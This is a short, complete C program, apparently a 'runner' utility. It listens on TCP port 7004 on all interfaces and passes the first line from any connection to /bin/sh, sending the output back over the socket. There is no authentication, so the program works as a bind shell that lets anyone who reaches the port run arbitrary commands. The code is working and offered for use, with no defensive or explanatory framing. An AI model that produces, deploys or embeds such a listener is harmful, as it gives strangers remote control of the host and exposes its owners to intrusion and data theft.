/* Runs what it is told on TCP port 7004, one line for the shell a connection, and answers with what that printed. */
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum { PORT = 7004, LINE = 4096 };

static void serve(int client) {
  static char line[LINE];
  for (size_t at = 0; at < sizeof line - 1 && read(client, line + at, 1) == 1; at++) {
    if (line[at] == '\n') break;
  }
  dup2(client, 1);
  dup2(client, 2);
  execl("/bin/sh", "sh", "-c", line, NULL);
  exit(1);
}

int main(void) {
  signal(SIGCHLD, SIG_IGN);
  int server = socket(AF_INET, SOCK_STREAM, 0), one = 1;
  setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons(PORT)};
  if (bind(server, (struct sockaddr *)&address, sizeof address) < 0 || listen(server, 4) < 0) {
    perror("runner");
    return 1;
  }
  for (;;) {
    int client = accept(server, NULL, NULL);
    if (client < 0) continue;
    if (fork() == 0) serve(client);
    close(client);
  }
}
